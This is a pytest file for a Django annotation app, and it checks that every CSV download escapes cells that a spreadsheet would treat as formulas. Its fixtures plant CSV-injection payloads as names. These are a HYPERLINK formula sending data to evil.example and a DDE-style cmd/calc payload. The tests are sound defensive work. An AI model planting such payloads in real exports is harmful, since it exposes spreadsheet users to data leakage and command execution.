"""Every CSV download opens in a spreadsheet as data, never as a formula (OWASP CSV Injection).

The app serves three CSVs, the report's systems, judges and topics tables (reports.tables and each task type's tables),
in four layouts. Each
layout's campaign gets hostile names where users choose them (a judge, systems, a topic, an annotator): every text cell
that starts with =, +, -, @, a tab or a carriage return comes out behind a single quote, and numbers (a negative
kappa, a system named "-0.25") stay numbers. Nothing else the app serves is a CSV or TSV: the archive is JSON lines,
the rankings JSON, qrels and runs TREC text (see SECURITY.md).
"""

import csv
import io
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model

from annotate.models import HumanJudgment, Item, Role, SystemOutput, Topic, Unit
from annotate.services.campaigns import campaign_get_or_create
from interchange.importers.runs_pool import runs_pool_import
from judges.models import Judge, ModelJudgment
from reports.tables import SpreadsheetCsv, spreadsheet_cell, spreadsheet_text
from tests.agreement.test_agreement_report import small_campaign  # noqa: F401 (fixture)
from tests.factories import PASSWORD, MembershipFactory, TopicFactory, UserFactory
from tests.report_support import report_stored
from tests.tasktypes.test_agreement_ranking import ranking_campaign  # noqa: F401 (fixture)

JUDGE = '=HYPERLINK("http://evil.example/?leak=1","click")'
SYSTEM = "@SUM(1+1)*cmd|'/C_calc'!A0"  # no space: a TREC run's tag too
TAB_SYSTEM = "\t=1+1"
NUMBER_SYSTEM = "-0.25"  # a name that is a number: stays as it is
TOPIC = "+1-555"  # not a number; no space: a TREC qid too
ANNOTATOR = "-x"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "value,cell",
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1 555", "'+1 555"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("-0.25", "-0.25"),
        ("+3", "+3"),
        ("1e-05", "1e-05"),
        (-0.25, -0.25),
        (-3, -3),
        ("", ""),
        ("a=b", "a=b"),
        # text that begins as an escaped cell does is escaped too, so that dropping one quote gives it back
        ("'=already", "''=already"),
        ("''", "'''"),
        ("'a", "'a"),
        ("'", "'"),
        # what a spreadsheet passes over first (spaces, a line feed, invisible characters) and full-width signs
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0bcmd", "'\uff0bcmd"),
        ("\uff0dx", "'\uff0dx"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        (" =1+1", "' =1+1"),
        ("\u00a0@x", "'\u00a0@x"),
        ("\u200b=1", "'\u200b=1"),
        ("\ufeff+x", "'\ufeff+x"),
        ("\n=1", "'\n=1"),
        (" -3", " -3"),
        ("\u200b", "\u200b"),
        ("a \uff1d b", "a \uff1d b"),
        ("'\u200b=1", "''\u200b=1"),
    ],
)
def test_a_cell_that_would_be_a_formula_is_text(value, cell):
    assert spreadsheet_cell(value) == cell
    assert not isinstance(value, str) or spreadsheet_text(cell) == value  # a reader gets the text back


def _hostile(campaign, *, systems: list[str], topic: str | None = None,
             annotator: tuple[str, str] | None = None) -> None:
    """Give CAMPAIGN's first judge, first systems and first topic the hostile names, and ANNOTATOR (old, new) its new
    username."""
    judge = Judge.objects.filter(campaign=campaign).order_by("name").first()
    Judge.objects.filter(pk=judge.pk).update(name=JUDGE)
    names = sorted(set(SystemOutput.objects.filter(campaign=campaign).values_list("system", flat=True)))
    for old, new in zip(names, systems, strict=False):
        SystemOutput.objects.filter(campaign=campaign, system=old).update(system=new)
    if topic:
        first = Topic.objects.filter(campaign=campaign).order_by("external_id").first()
        Topic.objects.filter(pk=first.pk).update(external_id=topic)
    if annotator:
        get_user_model().objects.filter(username=annotator[0]).update(username=annotator[1])


def _downloads(client, campaign) -> list[str]:
    """Every cell of the campaign's three CSV downloads, as its researcher gets them."""
    report_stored(campaign)  # as the worker leaves it: a first open never builds
    assert client.login(username="res", password=PASSWORD)
    cells = []
    for table in ("systems", "judges", "topics"):
        response = client.get(f"/campaigns/{campaign.slug}/report/{table}.csv")
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        cells += [cell for row in csv.reader(io.StringIO(response.content.decode(), newline="")) for cell in row]
    return cells


def _assert_inert(cells: list[str], *, neutralised: list[str], kept: list[str]) -> None:
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    assert live == [], f"cells a spreadsheet would run: {live}"
    for name in neutralised:
        assert any(cell.startswith("'" + name) for cell in cells), f"{name!r} is not in the downloads"
    for value in kept:
        assert value in cells, f"{value!r} is not in the downloads as written"


@pytest.mark.filterwarnings("ignore:Glyph 9")  # the tab of a system's name, in the report's plot
def test_verdict_report_csvs(client, small_campaign):  # noqa: F811
    _hostile(small_campaign, systems=[SYSTEM, NUMBER_SYSTEM, TAB_SYSTEM], topic=TOPIC)
    cells = _downloads(client, small_campaign)
    # judge-a's kappa is -0.5: a negative number stays one.
    _assert_inert(cells, neutralised=[JUDGE, SYSTEM, TAB_SYSTEM], kept=[NUMBER_SYSTEM, "-0.5"])


def test_ranking_report_csvs(client, ranking_campaign):  # noqa: F811
    _hostile(ranking_campaign, systems=[], topic=TOPIC, annotator=("ann1", ANNOTATOR))
    _assert_inert(_downloads(client, ranking_campaign), neutralised=[JUDGE, TOPIC, ANNOTATOR], kept=[])


@pytest.fixture
def hostile_passages(db, researcher, settings, tmp_path):
    """A passage_relevance campaign whose runs, topic and judge carry the hostile names from the start (run tags and
    qids come from the TREC run file): two topics of two passages, one assessor, one judge."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    campaign = campaign_get_or_create(slug="hostile", task_type="passage_relevance", overlap=1)
    MembershipFactory(campaign=campaign, user=researcher, role=Role.RESEARCHER)
    nist = UserFactory(username=ANNOTATOR)
    judge = Judge.objects.create(campaign=campaign, name=JUDGE, family="external", config_hash="h")
    for qid in (TOPIC, "q2"):
        topic = TopicFactory(campaign=campaign, external_id=qid, text=f"query {qid}", data={})
        for doc, grade in (("a", 3), ("b", 0)):
            item = Item.objects.create(campaign=campaign, topic=topic, external_id=f"{qid}/{doc}", kind="passage",
                                       data={"docid": doc}, text=f"passage {doc}")
            unit = Unit.objects.create(campaign=campaign, topic=topic, item=item, judgments_needed=1)
            HumanJudgment.objects.create(unit=unit, annotator=nist, value={"grade": grade}, label=str(grade))
            ModelJudgment.objects.create(judge=judge, item=item, label=str(3 - grade))
    runs = tmp_path / "runs.txt"
    runs.write_text("".join(f"{qid} Q0 {doc} {rank} {3 - rank} {run}\n" for run in (SYSTEM, NUMBER_SYSTEM)
                            for qid in (TOPIC, "q2") for rank, doc in enumerate("ab", start=1)))
    runs_pool_import(campaign=campaign, paths=[runs], depth=10, tag=None)
    return campaign


def test_graded_report_csvs(client, hostile_passages):
    _assert_inert(_downloads(client, hostile_passages), neutralised=[JUDGE, SYSTEM, TOPIC], kept=[NUMBER_SYSTEM])


def test_every_csv_is_written_by_the_one_writer():
    """A new CSV (or TSV) download goes through SpreadsheetCsv: no other csv.writer in the app's code."""
    root = Path(__file__).resolve().parents[2]
    # The app's own folders: not the virtualenvs (.venv, bench/load's .venv-load) or anything else hidden or built.
    folders = [folder for folder in root.iterdir() if folder.is_dir() and not folder.name.startswith(".")
               and folder.name not in {"tests", "bench", "scripts", "var", "node_modules", "staticfiles"}]
    app = [path for folder in folders for path in folder.rglob("*.py")]
    writers = sorted(str(path.relative_to(root)) for path in app
                     if any(word in path.read_text(encoding="utf-8") for word in ("csv.writer(", "csv.DictWriter(")))
    assert writers == ["reports/tables.py"]
    table = SpreadsheetCsv()
    table.writerow([JUDGE, -0.25])
    assert table.text() == '"\'=HYPERLINK(""http://evil.example/?leak=1"",""click"")",-0.25\n'
